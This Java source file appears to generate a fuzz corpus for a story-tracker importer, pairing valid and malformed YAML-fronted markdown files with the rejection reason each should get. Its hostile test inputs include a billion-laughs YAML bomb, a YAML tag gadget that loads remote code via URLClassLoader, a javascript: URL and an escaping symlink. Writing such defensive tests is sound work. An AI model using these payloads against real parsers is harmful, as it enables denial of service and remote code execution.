package dev.storytracker.reliability;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.function.Consumer;
import java.util.function.Function;

import dev.storytracker.ingest.Outcome;

/**
 * The kinds of file the fuzz corpus holds, by name: valid variations (line endings, byte-order mark, styles, bounds
 * just met) and malformed ones, each with the reason the importer must give.
 */
final class FuzzCategories {

    private final FuzzCorpus corpus;
    private final Random random;
    private final Map<String, Consumer<FuzzCorpus>> all = new LinkedHashMap<>();

    FuzzCategories(FuzzCorpus corpus) {
        this.corpus = corpus;
        this.random = corpus.random();
        validOnes();
        brokenFrontMatter();
        wrongTypes();
        tooLarge();
        badBytes();
        yamlBombs();
        badReferences();
        roadmapTrouble();
    }

    Map<String, Consumer<FuzzCorpus>> all() {
        return all;
    }

    private void ok(String category, Function<FuzzStory, byte[]> render) {
        all.put("valid " + category, c -> {
            FuzzStory story = c.story(random.nextInt(3) == 0);
            c.valid(story, "valid " + category, render.apply(story));
        });
    }

    private void bad(String category, String reason, Function<FuzzStory, String> mutate) {
        all.put(category, c -> {
            FuzzStory story = c.story(random.nextInt(3) == 0);
            c.rejected(story, category, reason, mutate.apply(story));
        });
    }

    private void badBytes(String category, String reason, Function<FuzzStory, byte[]> mutate) {
        all.put(category, c -> {
            FuzzStory story = c.story(random.nextBoolean());
            c.rejected(story, category, reason, mutate.apply(story));
        });
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private void validOnes() {
        for (int i = 0; i < 4; i++) {
            ok("plain " + i, s -> utf8(s.render()));
        }
        ok("CRLF line endings", s -> utf8(s.render().replace("\n", "\r\n")));
        ok("lone CR line endings", s -> utf8(s.render().replace("\n", "\r")));
        ok("byte-order mark", s -> concat(new byte[]{(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, utf8(s.render())));
        ok("closed by '...'", s -> utf8("---\n" + s.frontMatter() + "...\n" + s.body()));
        ok("unicode text", s -> {
            s.title = "Gráce's 🦀 story \u202Eevil\u202C «" + s.slug + "» 日本語";
            s.text = "Zalgo t\u0336e\u0336x\u0336t, emoji 👩‍👩‍👧, RTL \u05E9\u05DC\u05D5\u05DD, tab\there.";
            return utf8(s.render());
        });
        ok("limits just met", s -> {
            s.title = "T".repeat(199) + "!";
            s.summary = "s".repeat(500);
            s.themes.clear();
            s.themes.addAll(corpus.catalog.themes);
            s.faq.clear();
            for (int i = 0; i < 30; i++) {
                s.faq.put("Q" + i + " " + "q".repeat(290) + "?", i == 0 ? "a".repeat(16_384) : "Yes.");
            }
            return utf8(s.render());
        });
        ok("yaml anchor on a value", s -> {
            s.summary = null;
            s.extra.add("summary: &words Short words");
            s.extra.add("flags: [*words]");
            return utf8(s.render());
        });
        ok("empty optional fields", s -> {
            s.projects.clear();
            s.extra.add("projects:");
            s.extra.add("flags: []");
            return utf8(s.render());
        });
        ok("yaml comments and quotes", s -> utf8(s.render().replace("kind:", "# a comment\n'kind':")));
    }

    private void brokenFrontMatter() {
        bad("unclosed front matter", "not closed", s -> "---\n" + s.frontMatter() + s.body().replace("---", ""));
        bad("no front matter", "must start with a front matter block", FuzzStory::body);
        bad("blank line before front matter", "must start with a front matter block", s -> "\n" + s.render());
        bad("empty file", "must start with a front matter block", s -> "");
        bad("whitespace only", "must start with a front matter block", s -> " \n\t\n  ");
        bad("only front matter", "no text", s -> "---\n" + s.frontMatter() + "---\n");
        bad("only a FAQ", "no text",
                s -> "---\n" + s.frontMatter() + "---\n## Frequently Asked Questions\n### Q?\nA.\n");
        bad("bad indentation", "not valid YAML", s -> "---\n  " + s.frontMatter().replaceFirst("\n", "\n kind2: x\n")
                + "---\n" + s.body());
        bad("tab indentation", "not valid YAML", s -> {
            s.extra.add("flags:\n\t- x");
            return s.render();
        });
        bad("unbalanced brackets", "not valid YAML", s -> s.render().replaceFirst("title: ", "extra: [a, {b\ntitle: "));
        bad("unterminated quote", "not valid YAML", s -> s.render().replaceFirst("title: \"", "title: \"\"never"));
        bad("colon in plain value", "not valid YAML", s -> s.render().replaceFirst("kind: ", "kind: a: "));
        bad("front matter is a list", "must be a set of 'key: value' lines", s -> "---\n- a\n- b\n---\n" + s.body());
        bad("front matter is text", "must be a set of 'key: value' lines", s -> "---\njust words\n---\n" + s.body());
        bad("list as a key", "keys must be plain", s -> s.render().replaceFirst("kind:", "[a, b]: c\nkind:"));
        bad("unknown field", "unknown field 'colour'", s -> s.render().replaceFirst("kind:", "colour: red\nkind:"));
        bad("misspelt field", "unknown field 'theme'", s -> s.render().replaceFirst("kind:", "theme: theme-1\nkind:"));
        bad("duplicate key", "given twice", s -> s.render().replaceFirst("kind:", "title: Again\nkind:"));
        bad("missing title", "'title' is required", s -> s.render().replaceFirst("title: [^\n]*\n", ""));
        bad("no character and no flags", "'character' is required",
                s -> s.render().replaceFirst("character: [^\n]*\n", ""));
    }

    private void wrongTypes() {
        bad("list where text is expected", "must be a single value, not a list",
                s -> s.render().replaceFirst("title: [^\n]*", "title: [a, b]"));
        bad("map where text is expected", "not a map", s -> s.render().replaceFirst("title: [^\n]*", "title: {a: b}"));
        bad("map where a list is expected", "not a map", s -> {
            s.projects.clear();
            s.extra.add("projects: {project-0: yes}");
            return s.render();
        });
        bad("nested list", "not nested lists", s -> s.render().replaceFirst("kind:", "flags: [[a, b]]\nkind:"));
        bad("links as plain values", "must be 'key: value' pairs", s -> {
            s.links.clear();
            s.extra.add("links: [init-a]");
            return s.render();
        });
        bad("number as a character", "unknown character '42'",
                s -> s.render().replaceFirst("character: [^\n]*", "character: 42"));
        bad("boolean as a theme", "unknown theme 'true'", s -> {
            s.themes.clear();
            s.extra.add("themes: [true]");
            return s.render();
        });
        bad("unknown state", "must be one of", s -> s.render().replaceFirst("kind:", "state: lost\nkind:"));
        bad("kind against the folder", "does not match the folder", s -> s.render()
                .replaceFirst("kind: [^\n]*", s.shiny ? "kind: status-quo" : "kind: shiny-future"));
        bad("control character in title", "control characters",
                s -> s.render().replace("title: " + FuzzStory.quote(s.title), "title: \"bell\\a\""));
        bad("bad slug in themes", "'Not A Slug' in 'themes' is not a slug", s -> {
            s.themes.clear();
            s.extra.add("themes: [Not A Slug]");
            return s.render();
        });
        bad("links entry without item", "needs an 'item'", s -> {
            s.links.clear();
            s.extra.add("links:\n  - relation: motivates");
            return s.render();
        });
        bad("links with an unknown key", "unknown key 'weight'", s -> {
            s.links.clear();
            s.extra.add("links:\n  - item: goal-a\n    weight: 3");
            return s.render();
        });
    }

    private void tooLarge() {
        bad("title over 200 characters", "longer than 200", s -> {
            s.title = "T".repeat(201);
            return s.render();
        });
        bad("summary over 500 characters", "longer than 500", s -> {
            s.summary = "s".repeat(501);
            return s.render();
        });
        bad("author over 200 characters", "longer than 200", s -> {
            s.authors.add("A".repeat(201));
            return s.render();
        });
        bad("21 themes", "at most 20", s -> {
            s.themes.clear();
            s.themes.addAll(corpus.catalog.themes);
            s.themes.add("theme-x");
            return s.render();
        });
        bad("31 FAQ questions", "at most 30", s -> {
            for (int i = 0; i < 31; i++) {
                s.faq.put("Extra " + i + "?", "Yes.");
            }
            return s.render();
        });
        bad("FAQ question over 300 characters", "longer than 300", s -> {
            s.faq.put("Q".repeat(301), "Yes.");
            return s.render();
        });
        bad("FAQ answer over 16384 characters", "longer than 16384", s -> {
            s.faq.put("Why?", "a ".repeat(8_200));
            return s.render();
        });
        bad("101 links", "at most 100", s -> {
            StringBuilder links = new StringBuilder("links:\n");
            for (int i = 0; i < 101; i++) {
                links.append("  - item: item-").append(i).append('\n');
            }
            s.links.clear();
            s.extra.add(links.toString().strip());
            return s.render();
        });
        bad("link note over 500 characters", "longer than 500", s -> {
            s.links.clear();
            s.links.put("goal-a", "motivates|" + "n".repeat(501));
            return s.render();
        });
    }

    /**
     * The large ones, made once each: 10,000 themes, a 1 MB title, a 10 MB body, a 300 KB body, and long lines that
     * would make a backtracking pattern take forever.
     */
    void huge() {
        FuzzStory themes = corpus.story(false);
        StringBuilder many = new StringBuilder("themes: [");
        for (int i = 0; i < 10_000; i++) {
            many.append(i == 0 ? "" : ", ").append("theme-").append(i);
        }
        themes.themes.clear();
        themes.extra.add(many + "]");
        corpus.rejected(themes, "10,000 themes", "has 10000 entries; at most 20", themes.render());
        FuzzStory more = corpus.story(false);
        corpus.rejected(more, "20,000 flags", "more than 10000 entries", more.render().replaceFirst("kind:",
                "flags: [" + "x, ".repeat(20_000) + "x]\nkind:"));
        FuzzStory title = corpus.story(false);
        title.title = "T".repeat(1024 * 1024);
        corpus.rejected(title, "1 MB title", "larger than 1024 KiB", title.render());
        FuzzStory body = corpus.story(true);
        body.text = "Lorem ipsum dolor sit amet. ".repeat(10 * 1024 * 1024 / 28);
        corpus.rejected(body, "10 MB body", "larger than 1024 KiB", body.render());
        FuzzStory big = corpus.story(false);
        big.text = "word ".repeat(300 * 1024 / 5);
        corpus.rejected(big, "300 KB body", "larger than 256 KiB", big.render());
        FuzzStory line = corpus.story(false);
        line.text = "Prose first.\n\n# " + " ".repeat(100_000) + "x\n\n[" + "[".repeat(100_000);
        corpus.valid(line, "valid long heading and brackets", utf8(line.render()));
        FuzzStory brackets = corpus.story(false);
        brackets.text = "a" + "[".repeat(250_000) + "\n";
        corpus.valid(brackets, "valid long heading and brackets", utf8(brackets.render()));
        FuzzStory quotes = corpus.story(false);
        quotes.text = ">".repeat(100_000) + " deep\n\n" + "- ".repeat(50_000) + "x\n\nText.";
        corpus.valid(quotes, "valid deep markdown nesting", utf8(quotes.render()));
    }

    private void badBytes() {
        badBytes("random binary", "UTF-8|NUL", s -> {
            byte[] bytes = new byte[64 + random.nextInt(4096)];
            random.nextBytes(bytes);
            bytes[random.nextInt(bytes.length)] = 0;
            return bytes;
        });
        badBytes("binary after valid front matter", "UTF-8|NUL",
                s -> concat(utf8("---\n" + s.frontMatter() + "---\n"), new byte[]{0, 1, 2, (byte) 0xFF, 3}));
        badBytes("invalid UTF-8 in title", "not valid UTF-8",
                s -> splice(utf8(s.render()), "title: \"".length() + 4, new byte[]{(byte) 0xC3, 0x28}));
        badBytes("overlong UTF-8", "not valid UTF-8",
                s -> splice(utf8(s.render()), utf8(s.render()).length - 2, new byte[]{(byte) 0xC0, (byte) 0xAF}));
        badBytes("UTF-16 surrogate bytes", "not valid UTF-8",
                s -> splice(utf8(s.render()), 20, new byte[]{(byte) 0xED, (byte) 0xA0, (byte) 0x80}));
        badBytes("truncated UTF-8 sequence", "not valid UTF-8",
                s -> concat(utf8(s.render()), new byte[]{(byte) 0xE2, (byte) 0x82}));
        badBytes("UTF-16 file", "UTF-8|NUL", s -> s.render().getBytes(StandardCharsets.UTF_16LE));
        badBytes("NUL in body", "NUL", s -> utf8(s.render() + "\0tail"));
        badBytes("two byte-order marks", "must start with a front matter block",
                s -> concat(new byte[]{(byte) 0xEF, (byte) 0xBB, (byte) 0xBF, (byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
                        utf8(s.render())));
    }

    private void yamlBombs() {
        bad("billion laughs", "not valid YAML", s -> {
            StringBuilder yaml = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
            for (int i = 1; i < 10; i++) {
                String prev = "*a" + (i - 1);
                yaml.append('a').append(i).append(": &a").append(i).append(" [").append(prev);
                yaml.append((", " + prev).repeat(8)).append("]\n");
            }
            return "---\n" + s.frontMatter() + yaml + "---\n" + s.body();
        });
        bad("alias to a list in a list", "not nested lists|not valid YAML",
                s -> "---\n" + s.frontMatter() + "x: &x [a]\nflags: [*x, *x]\n---\n" + s.body());
        bad("recursive anchor", "not valid YAML|not nested lists|must be", s -> "---\n" + s.frontMatter()
                + "flags: &r [*r]\n---\n" + s.body());
        bad("deep flow nesting", "not valid YAML", s -> "---\n" + s.frontMatter() + "flags: "
                + "[".repeat(5_000 + random.nextInt(5_000)) + "]".repeat(5_000) + "\n---\n" + s.body());
        bad("deep block nesting", "not valid YAML", s -> {
            StringBuilder yaml = new StringBuilder("flags:\n");
            for (int i = 0; i < 200; i++) {
                yaml.append("  ".repeat(i + 1)).append("-\n");
            }
            return "---\n" + s.frontMatter() + yaml + "---\n" + s.body();
        });
        bad("deep map nesting", "not valid YAML", s -> "---\n" + s.frontMatter() + "flags: "
                + "{a: ".repeat(3_000) + "b" + "}".repeat(3_000) + "\n---\n" + s.body());
        bad("yaml tag that would run code", "Global tag is not allowed", s -> s.render().replaceFirst(
                "title: [^\n]*",
                "title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]"));
        bad("binary tag on a list field", "must be a single value|not a map|not nested lists",
                s -> s.render().replaceFirst("title: [^\n]*", "title: !!set {a, b}"));
        bad("a second YAML document", "not valid YAML",
                s -> s.render().replaceFirst("kind:", "--- !!str\nkind:").replaceFirst("^---\n", "---\na: b\n"));
    }

    private void badReferences() {
        bad("unknown character", "unknown character 'nobody'",
                s -> s.render().replaceFirst("character: [^\n]*", "character: nobody"));
        bad("unknown theme", "unknown theme 'no-such-theme'", s -> {
            s.themes.add("no-such-theme");
            return s.render();
        });
        bad("unknown project", "unknown project 'no-such-project'", s -> {
            s.projects.add("no-such-project");
            return s.render();
        });
        bad("unknown roadmap item", "unknown roadmap item 'no-such-item'", s -> {
            s.links.put("no-such-item", "motivates|");
            return s.render();
        });
        bad("unknown link relation", "relation 'causes'", s -> {
            s.links.clear();
            s.links.put("goal-b", "causes|A note.");
            return s.render();
        });
        bad("item linked twice", "linked twice", s -> {
            s.links.clear();
            s.links.put("goal-b", "motivates|");
            s.extra.add("links:\n  - item: goal-b");
            return s.render();
        });
        all.put("retells itself", c -> {
            FuzzStory s = c.story(true);
            s.retells.clear();
            s.retells.add(s.slug);
            c.rejected(s, "retells itself", "cannot retell itself", s.render());
        });
        all.put("retells a missing story", c -> {
            FuzzStory s = c.story(true);
            s.retells.add("never-written");
            c.rejected(s, "retells a missing story", "'never-written' in 'retells' is not a story", s.render());
        });
        all.put("retells a rejected story", c -> {
            FuzzStory s = c.story(true);
            if (c.rejectedStatusQuo().isEmpty()) {
                return;
            }
            String gone = c.rejectedStatusQuo().get(random.nextInt(c.rejectedStatusQuo().size()));
            s.retells.clear();
            s.retells.add(gone);
            c.rejected(s, "retells a rejected story", "'" + gone + "' in 'retells' is not a story", s.render());
        });
        all.put("retells a shiny-future story", c -> {
            FuzzStory s = c.story(true);
            if (c.createdShiny().isEmpty()) {
                return;
            }
            s.retells.clear();
            s.retells.add(c.createdShiny().get(random.nextInt(c.createdShiny().size())));
            c.rejected(s, "retells a shiny-future story", "is not a status-quo story", s.render());
        });
        all.put("status quo that retells", c -> {
            FuzzStory s = c.story(false);
            s.retells.add(c.createdStatusQuo().isEmpty() ? "x" : c.createdStatusQuo().get(0));
            c.rejected(s, "status quo that retells", "only shiny-future stories retell", s.render());
        });
        bad("chapter of itself", "chapter of itself", s -> s.render().replaceFirst("kind:", "series: " + s.slug
                + "\nkind:"));
        bad("chapter of a missing series", "the series 'no-series' is not a story",
                s -> s.render().replaceFirst("kind:", "series: no-series\nkind:"));
        all.put("duplicate slug across folders", c -> {
            FuzzStory first = c.story(false);
            c.valid(first, "valid first of a duplicate pair");
            FuzzStory second = FuzzStory.random(first.slug, true, random, c.catalog);
            c.add(second.path(), second.render(), "duplicate slug across folders", Outcome.REJECTED,
                    "already used by status-quo/" + first.slug + ".md");
        });
    }

    private void roadmapTrouble() {
        all.put("roadmap parent cycle", c -> {
            String a = "cyc-" + c.slug();
            String b = "cyc-" + c.slug();
            c.add("roadmap/" + a + ".md", "---\ntitle: A\nlevel: initiative\nparent: " + b + "\n---\n",
                    "roadmap parent cycle", Outcome.REJECTED, "the parent '" + b + "' is not a roadmap item");
            c.add("roadmap/" + b + ".md", "---\ntitle: B\nlevel: initiative\nparent: " + a + "\n---\n",
                    "roadmap parent cycle", Outcome.REJECTED, "the parent '" + a + "' is not a roadmap item");
        });
        roadmap("roadmap self-parent", "its own parent", slug -> "level: milestone\nparent: " + slug);
        roadmap("roadmap parent of the same level", "must be a higher level", slug -> "level: initiative\n"
                + "parent: init-b");
        // Milestones are written after initiatives: on a first import the parent is not there yet.
        roadmap("roadmap parent below", "must be a higher level|the parent 'mile-a' is not a roadmap item",
                slug -> "level: initiative\nparent: mile-a");
        roadmap("roadmap goal with a parent", "a goal has no parent", slug -> "level: goal\nparent: goal-a");
        roadmap("roadmap initiative without parent", "needs a parent", slug -> "level: initiative");
        roadmap("roadmap progress out of range", "between 0 and 100", slug -> "level: goal\nprogress: 101");
        roadmap("roadmap progress not a number", "whole number", slug -> "level: goal\nprogress: 1e9");
        roadmap("roadmap landing not http", "http or https URL", slug -> "level: goal\nlanding: javascript:alert(1)");
        roadmap("roadmap 21 owners", "at most 20", slug -> "level: goal\nowners: [" + "o, ".repeat(20) + "z]");
        roadmap("roadmap unknown level", "must be one of", slug -> "level: epic");
        all.put("catalogue without a name", c -> c.add("themes/" + c.slug() + ".md", "---\nname:\n---\nText.\n",
                "catalogue without a name", Outcome.REJECTED, "'name' is required"));
        all.put("catalogue description too long", c -> c.add("projects/" + c.slug() + ".md",
                "---\nname: Big\n---\n" + "d".repeat(65_537), "catalogue description too long", Outcome.REJECTED,
                "longer than 65536"));
    }

    private void roadmap(String category, String reason, Function<String, String> fields) {
        all.put(category, c -> {
            String slug = "item-" + c.slug();
            c.add("roadmap/" + slug + ".md", "---\ntitle: Item\n" + fields.apply(slug) + "\n---\nImpact.\n", category,
                    Outcome.REJECTED, reason);
        });
    }

    /** File names, folders and links the importer must skip, ignore or refuse; made once. */
    void oddFiles() {
        FuzzStory story = corpus.story(false);
        String text = story.render();
        corpus.add("status-quo/Upper_Case.md", text, "file name not a slug", Outcome.REJECTED, "must be a slug");
        corpus.add("status-quo/double--hyphen.md", text, "file name not a slug", Outcome.REJECTED, "must be a slug");
        corpus.add("status-quo/ünïcödé.md", text, "file name not a slug", Outcome.REJECTED, "must be a slug");
        corpus.add("status-quo/with space.md", text, "file name not a slug", Outcome.REJECTED, "must be a slug");
        corpus.add("status-quo/-leading.md", text, "file name not a slug", Outcome.REJECTED, "must be a slug");
        corpus.add("status-quo/.md", text, "hidden file", null, null);
        corpus.add("status-quo/" + "a".repeat(121) + ".md", text, "file name not a slug", Outcome.REJECTED,
                "must be a slug");
        corpus.add("README.md", "# Read me\n", "markdown outside the corpus folders", Outcome.SKIPPED,
                "not in a corpus folder");
        corpus.add("notes/x.md", text, "markdown outside the corpus folders", Outcome.SKIPPED,
                "not in a corpus folder");
        corpus.add("status-quo/deeper/x.md", text, "markdown outside the corpus folders", Outcome.SKIPPED,
                "not in a corpus folder");
        corpus.add("status-quo/x.txt", text, "not markdown", null, null);
        corpus.add("status-quo/X.MD", text, "not markdown", null, null);
        corpus.add("status-quo/no-extension", text, "not markdown", null, null);
        corpus.add(".hidden/y.md", text, "hidden folder", null, null);
        corpus.add("outside/target.md", text, "markdown outside the corpus folders", Outcome.SKIPPED,
                "not in a corpus folder");
        corpus.symlink("status-quo/linked.md", "outside/target.md", "symbolic link");
    }

    private static byte[] concat(byte[] a, byte[] b) {
        ByteArrayOutputStream out = new ByteArrayOutputStream(a.length + b.length);
        out.writeBytes(a);
        out.writeBytes(b);
        return out.toByteArray();
    }

    private static byte[] splice(byte[] bytes, int at, byte[] insert) {
        int where = Math.min(at, bytes.length);
        ByteArrayOutputStream out = new ByteArrayOutputStream(bytes.length + insert.length);
        out.write(bytes, 0, where);
        out.writeBytes(insert);
        out.write(bytes, where, bytes.length - where);
        return out.toByteArray();
    }
}
